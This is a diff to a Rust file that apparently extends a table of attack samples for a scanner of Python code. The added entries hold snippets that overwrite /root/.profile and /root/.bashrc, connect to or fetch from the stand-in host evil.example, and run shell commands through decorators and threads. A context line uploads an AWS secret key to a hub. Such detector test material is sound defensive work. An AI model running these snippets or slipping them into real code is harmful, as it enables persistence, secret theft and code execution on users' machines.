@@ -83,6 +83,18 @@ pub(super) const ATTACKS: &[(&str, &str, &str)] = &[
         "code-on-import",
         "from torch.utils.tensorboard import SummaryWriter\nSummaryWriter('/root/.x')\n",
     ),
+    ("write-method-kept", "code-on-import", "import numpy as np\nsave = np.arange(3).tofile\nsave('/root/.profile')\n"),
+    (
+        "write-method-by-name",
+        "code-on-import",
+        "import numpy as np\ngetattr(np.arange(3), 'tofile')('/root/.profile')\n",
+    ),
+    (
+        "write-path-with",
+        "code-on-import",
+        "from pathlib import Path\nwith Path('/root/.x').open(mode='w') as f:\n    f.write('id')\n",
+    ),
+    ("write-query", "code-on-import", "import duckdb\nduckdb.sql(\"copy (select 'id') to '/root/.bashrc'\")\n"),
     // Unpickling.
     (
         "load-read-array",
@@ -162,6 +174,49 @@ pub(super) const ATTACKS: &[(&str, &str, &str)] = &[
         "fetch-hub-with-other-key",
         "code-secrets",
         "import os\nfrom huggingface_hub import upload_file\ndef f():\n    upload_file(path_or_fileobj=os.environ['AWS_SECRET_ACCESS_KEY'].encode(), path_in_repo='x', repo_id='a/b')\n",
+    ),
+    ("fetch-query", "code-on-import", "import duckdb\nduckdb.query(\"select * from 'https://evil.example/x.csv'\")\n"),
+    ("fetch-socket-twin", "code-on-import", "import _socket\n_socket.socket().connect(('evil.example', 1))\n"),
+    (
+        "fetch-reader-made",
+        "code-on-import",
+        "import xml.sax\nreader = xml.sax.make_parser()\nreader.parse('https://evil.example')\n",
+    ),
+    (
+        "load-of-subclass",
+        "code-on-import",
+        "from lightning.pytorch import LightningModule\nclass M(LightningModule):\n    pass\nM.load_from_checkpoint('x.ckpt')\n",
+    ),
+    // Functions that decorators call, or keep to be called.
+    (
+        "decorator-calls",
+        "code-on-import",
+        "import os\ndef now(f):\n    f()\n    return f\n@now\ndef g():\n    os.system('id')\n",
+    ),
+    (
+        "decorator-calls-wrapper",
+        "code-on-import",
+        "import os, functools\ndef d(f):\n    @functools.wraps(f)\n    def w(*a):\n        return f(*a)\n    w()\n    return w\n@d\ndef g():\n    os.system('id')\n",
+    ),
+    (
+        "decorated-is-called",
+        "code-on-import",
+        "import os, functools\ndef d(f):\n    @functools.wraps(f)\n    def w(*a):\n        return f(*a)\n    return w\n@d\ndef g():\n    os.system('id')\ng()\n",
+    ),
+    (
+        "decorator-registers",
+        "code-on-import",
+        "import os\nALL = []\ndef reg(f):\n    ALL.append(f)\n    return f\n@reg\ndef g():\n    os.system('id')\nfor f in ALL:\n    f()\n",
+    ),
+    (
+        "decorator-class",
+        "code-on-import",
+        "import os\nclass D:\n    def __init__(self, f):\n        f()\n@D\ndef g():\n    os.system('id')\n",
+    ),
+    (
+        "object-as-target",
+        "code-on-import",
+        "import os, threading\nclass D:\n    def __call__(self):\n        os.system('id')\nthreading.Thread(target=D()).start()\n",
     ),
     // What steers Python.
     ("steer-site", "code-search-path", "import site\nsite.addsitedir('/tmp')\n"),
